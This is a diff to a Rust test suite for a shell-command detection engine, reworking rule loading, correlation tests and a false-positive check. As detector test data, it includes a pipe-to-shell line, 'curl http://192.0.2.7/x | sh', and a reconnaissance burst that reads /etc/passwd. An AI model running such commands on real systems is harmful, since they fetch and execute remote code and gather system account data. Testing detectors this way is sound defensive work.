@@ -1,6 +1,6 @@
 #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
 
-use std::{collections::BTreeMap, fs, path::Path};
+use std::{collections::BTreeMap, fs, path::Path, sync::LazyLock};
 
 use jiff::{SignedDuration, Timestamp};
 
@@ -16,8 +16,10 @@ const SESSION: SessionFields<'static> = SessionFields {
     run_as_user: "ssm-user",
 };
 
-fn built_in() -> Detections {
-    Detections::load(&[], &Tuning::default()).unwrap()
+static PACK: LazyLock<Detections> = LazyLock::new(|| Detections::load(&[], &Tuning::default()).unwrap());
+
+fn built_in() -> &'static Detections {
+    &PACK
 }
 
 fn own(texts: &[&str]) -> Result<Detections, DetectionError> {
@@ -62,8 +64,8 @@ fn every_rule_of_the_pack_is_in_force() {
     assert_eq!(detections.not_loaded(), []);
     for rule in detections.rules() {
         assert!(rule.id.starts_with("CMD-"), "{}", rule.id);
-        assert!(rule.counted_only || !rule.fires.is_empty(), "{} has no line that fires it", rule.id);
-        assert!(rule.counted_only || !rule.silent.is_empty(), "{} has no line that does not fire it", rule.id);
+        assert!(rule.correlation || !rule.fires.is_empty(), "{} has no line that fires it", rule.id);
+        assert!(rule.correlation || !rule.silent.is_empty(), "{} has no line that does not fire it", rule.id);
         assert!(!rule.attack.is_empty(), "{} names no technique", rule.id);
     }
 }
@@ -73,12 +75,14 @@ fn every_rule_of_the_pack_fires_where_it_says_and_nowhere_else() {
     let detections = built_in();
     let mut wrong = Vec::new();
     for rule in detections.rules() {
-        if rule.correlation {
+        if rule.correlation && !rule.fires.is_empty() {
             for (lines, wanted) in [(&rule.fires, true), (&rule.silent, false)] {
-                if burst(&detections, lines).contains(&rule.id.to_string()) != wanted {
+                if burst(detections, lines).contains(&rule.id.to_string()) != wanted {
                     wrong.push(format!("{} over {lines:?}: not {wanted}", rule.id));
                 }
             }
+        }
+        if rule.correlation {
             continue;
         }
         for (lines, wanted) in [(&rule.fires, true), (&rule.silent, false)] {
@@ -93,6 +97,20 @@ fn every_rule_of_the_pack_fires_where_it_says_and_nowhere_else() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn ordinary_lines_fire_nothing_that_matters() {
+    let detections = built_in();
+    let mut fired = Vec::new();
+    for line in
+        include_str!("rules/ordinary.txt").lines().filter(|line| !line.trim().is_empty() && !line.starts_with("# "))
+    {
+        let mut hits = detections.command(&SESSION, &[line]);
+        hits.retain(|hit| !hit.rule.counted_only);
+        fired.extend(hits.iter().map(|hit| format!("{}: {line}", hit.rule.id)));
+    }
+    assert!(fired.is_empty(), "{}", fired.join("\n"));
 }
 
 /// What is raised when the lines are typed one second apart.
@@ -169,7 +187,7 @@ fn techniques_have_the_ids_of_today() {
 fn what_is_printed_is_less_sure_than_what_is_typed() {
     let detections = built_in();
     let line = "curl http://192.0.2.7/x | sh";
-    assert!(typed(&detections, "cat evil.sh").is_empty());
+    assert!(typed(detections, "cat evil.sh").is_empty());
     let hits = detections.output(&SESSION, line);
     let [hit] = hits.as_slice() else { unreachable!("{hits:?}") };
     assert_eq!((&*hit.rule.id, hit.confidence, hit.severity), ("CMD-20", Confidence::Output, Severity::Medium));
@@ -220,10 +238,10 @@ fn the_config_turns_rules_off_and_sets_severities() {
     let tuning = Tuning { disabled: vec!["CMD-2O".to_owned()], ..Tuning::default() };
     let error = Detections::load(&[], &tuning).unwrap_err();
     assert!(matches!(&error, DetectionError::UnknownRule { key: "disabled", nearest: Some(_), .. }), "{error}");
-    let tuning = Tuning { disabled: vec!["CMD-46-COMMAND".to_owned()], ..Tuning::default() };
+    let tuning = Tuning { disabled: vec!["CMD-46-step".to_owned()], ..Tuning::default() };
     let detections = Detections::load(&[], &tuning).unwrap();
     assert!(detections.correlations().is_empty());
-    assert!(detections.not_loaded()[0].reason.contains("CMD-46-COMMAND"), "{:?}", detections.not_loaded());
+    assert!(detections.not_loaded()[0].reason.contains("CMD-46-step"), "{:?}", detections.not_loaded());
 }
 
 #[test]
@@ -245,13 +263,13 @@ fn wrong_files_are_errors_with_their_place() {
 #[test]
 fn recon_is_a_burst_of_different_commands() {
     let detections = built_in();
-    let lines = |lines: &[&str]| burst(&detections, &lines.iter().map(|l| (*l).to_owned()).collect::<Vec<_>>());
+    let lines = |lines: &[&str]| burst(detections, &lines.iter().map(|l| (*l).to_owned()).collect::<Vec<_>>());
     let recon = ["id", "whoami", "uname -a", "w", "cat /etc/passwd"];
     assert_eq!(lines(&recon).iter().filter(|id| *id == "CMD-46").count(), 1);
     assert!(lines(&["id; whoami; uname -a; w; cat /etc/passwd"]).contains(&"CMD-46".to_owned()));
     assert!(!lines(&["id", "id", "id", "id", "id", "id"]).contains(&"CMD-46".to_owned()));
     // Never raised by itself; rests for a minute once it came true.
-    assert!(!lines(&["id"]).contains(&"CMD-46-COMMAND".to_owned()));
+    assert!(!lines(&["id"]).contains(&"CMD-46-step".to_owned()));
     let twice: Vec<&str> = recon.into_iter().chain(["ps", "ss", "last", "netstat", "hostname"]).collect();
     assert_eq!(lines(&twice).iter().filter(|id| *id == "CMD-46").count(), 1);
 }
@@ -310,7 +328,7 @@ fn bursts_are_bounded() {
 proptest::proptest! {
     #[test]
     fn any_line_can_be_typed_and_printed(line in "\\PC{0,200}") {
-        let detections = PACK.get_or_init(built_in);
+        let detections = built_in();
         detections.command(&SESSION, &[&line]);
         detections.output(&SESSION, &line);
     }
@@ -322,27 +340,19 @@ proptest::proptest! {
         words in proptest::collection::vec(proptest::sample::select(words()), 1..12),
     ) {
         let line = words.join(" ");
-        let together = typed(PACK.get_or_init(built_in), &line);
-        let alone: Vec<String> = ALONE.get_or_init(alone).iter().flat_map(|rule| typed(rule, &line)).collect();
+        let together = typed(built_in(), &line);
+        let alone: Vec<String> = ALONE.iter().flat_map(|rule| typed(rule, &line)).collect();
         proptest::prop_assert_eq!(together, alone);
     }
 }
 
-static PACK: std::sync::OnceLock<Detections> = std::sync::OnceLock::new();
-static ALONE: std::sync::OnceLock<Vec<Detections>> = std::sync::OnceLock::new();
-
-/// An engine for each rule of the pack that counts no others.
-fn alone() -> Vec<Detections> {
-    let pack = built_in();
-    let ids: Vec<String> = pack.rules().iter().map(|rule| rule.id.to_string()).collect();
-    let rules = pack.rules().iter().filter(|rule| !rule.correlation);
-    rules
-        .map(|rule| {
-            let disabled = ids.iter().filter(|id| **id != *rule.id).cloned().collect();
-            Detections::load(&[], &Tuning { disabled, ..Tuning::default() }).unwrap()
-        })
-        .collect()
-}
+/// An engine for each file of the pack.
+static ALONE: LazyLock<Vec<Detections>> = LazyLock::new(|| {
+    let engine = |(file, text): &(&'static str, &'static str)| {
+        Detections::from_files(std::iter::once((Origin::BuiltIn, *file, *text)), &Tuning::default()).unwrap()
+    };
+    BUILT_IN.iter().map(engine).collect()
+});
 
 /// Words of the lines that the pack names, and some of people's.
 fn words() -> Vec<String> {
